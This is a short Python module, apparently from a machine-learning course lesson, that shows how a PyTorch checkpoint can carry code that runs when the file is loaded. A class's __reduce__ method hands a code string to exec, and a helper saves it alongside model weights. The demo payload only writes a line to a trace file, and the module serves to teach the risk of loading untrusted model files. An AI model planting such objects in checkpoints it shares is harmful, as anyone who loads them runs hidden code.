"""Built in lesson 20, beyond images.

Generated from notebooks/20_beyond_images.ipynb: edit it there, then run make notebooks.
"""

from pathlib import Path

import torch
from torch import Tensor


class RunsCode:
    """An object whose file runs code when it is unpickled: here it writes one line to a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        code = f"with open({str(self.path)!r}, 'w') as file: file.write('the file ran code')"
        return exec, (code,)


def hostile_file(path: Path, weights: dict[str, Tensor], trace: Path) -> None:
    """Save weights together with an object that writes to `trace` when the file is loaded."""
    torch.save({**weights, "note": RunsCode(trace)}, path)
